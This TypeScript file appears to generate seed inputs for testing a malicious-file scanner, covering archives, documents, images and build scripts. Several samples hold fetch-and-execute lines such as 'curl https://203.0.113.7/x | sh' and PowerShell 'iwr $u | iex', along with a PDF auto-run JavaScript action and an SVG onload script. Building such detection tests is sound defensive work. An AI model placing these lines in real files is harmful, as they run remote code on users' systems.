/**
 * What the cases grow from: the files of the rules' fixtures, and small archives, documents and
 * pictures.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { deflateSync, gzipSync } from 'node:zlib';
import { tarOf, zipOf } from '../scanner/make-archives.ts';
import { fileOf, parseTextArchive } from '../scanner/txtar.ts';

export interface Seed {
  readonly path: string;
  readonly bytes: Buffer;
}

/** Files of all fixtures, sorted by fixture and place. */
export function readSeeds(): Seed[] {
  const folder = new URL('../scanner/', import.meta.url);
  const fixtures = readdirSync(folder, { recursive: true })
    .map(String)
    .filter((name) => name.endsWith('.txt'))
    .sort();
  const texts = fixtures.flatMap((name) =>
    [...parseTextArchive(readFileSync(new URL(name, folder), 'utf8')).files].flatMap(
      ([path, content]) => {
        if (path === 'findings' || path === 'expected') return [];
        const file = fileOf(path, content);
        return file.bytes.byteLength > 4_000
          ? []
          : [
              {
                path: file.path.split('/').slice(1).join('/') || file.path,
                bytes: Buffer.from(file.bytes),
              },
            ];
      },
    ),
  );
  return [...texts, ...madeSeeds()];
}

function madeSeeds(): Seed[] {
  const run = { name: 'run.sh', content: 'curl -s https://203.0.113.7/x | sh\n' };
  const page = 'BT /F1 9 Tf (text \\(a\\)) Tj [<0041> -300 (b)] TJ ET';
  const pdf = `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /OpenAction 2 0 R >>\nendobj\n2 0 obj\n<< /S /JavaScript /JS (eval\\(1\\)) >>\nendobj\n`;
  const stream = deflateSync(page);
  const document = [
    { name: '[Content_Types].xml', content: '<Types/>' },
    { name: 'word/document.xml', content: '<w:p><w:r><w:vanish/><w:t>a &amp; b</w:t></w:r></w:p>' },
    {
      name: 'word/_rels/a.rels',
      content:
        '<Relationship Type="x/oleObject" Target="https://a.example" TargetMode="External"/>',
    },
  ];
  const png =
    '89504e470d0a1a0a0000000d494844520000000100000001080600000000000000000000187445587458436f6d6d656e7400746578740000000049454e44ae426082';
  const made: readonly (readonly [string, Buffer])[] = [
    ['a.zip', zipOf([run, { name: 'b.zip', content: zipOf([run]) }])],
    ['a.docx', zipOf(document)],
    ['a.tar', tarOf([run])],
    ['a.tgz', gzipSync(tarOf([run]))],
    [
      'a.pdf',
      Buffer.concat([
        Buffer.from(`${pdf}3 0 obj\n<< /Filter /FlateDecode /Length ${stream.length} >>\nstream\n`),
        stream,
        Buffer.from('\nendstream\nendobj\n'),
      ]),
    ],
    ['a.png', Buffer.from(png, 'hex')],
    [
      'a.gif',
      Buffer.from(
        '474946383961010001000000002c000000000100010000020244010021fe0474657874003b',
        'hex',
      ),
    ],
    ['a.jpg', Buffer.from('ffd8fffe000674657874ffda0008010100003f0042ff0042ffd9', 'hex')],
    ['a.wav', Buffer.from('524946460c000000574156456461746100000000', 'hex')],
    [
      'a.ttf',
      Buffer.from('0001000000010000000000006e616d65000000000000001c00000004abcdabcd', 'hex'),
    ],
    [
      'a.ipynb',
      Buffer.from(
        '{"cells":[{"cell_type":"code","source":["%%bash\\n","id -u\\n"]},{"cell_type":"code","source":"!ls\\nx = 1"}]}',
      ),
    ],
    [
      '.github/workflows/a.yml',
      Buffer.from('a: &a\n  run: curl x | sh\nb:\n  <<: *a\n  steps:\n    - run: |\n        id\n'),
    ],
    ['Dockerfile', Buffer.from('FROM node:22\nRUN curl x \\\n | sh\nRUN ["sh", "-c", "id"]\n')],
    ['Makefile', Buffer.from('X := y\nall:\n\t@curl $(X) | sh\n')],
    ['a.ps1', Buffer.from('$u = "https://203.0." + "113.7"\niwr $u | iex\n')],
    ['a.rb', Buffer.from('system("curl #{x} | sh") # note\n')],
    ['a.svg', Buffer.from('<svg onload="f()"><script>g()</script><text>Hello</text></svg>')],
  ];
  return made.map(([path, bytes]) => ({ path, bytes }));
}
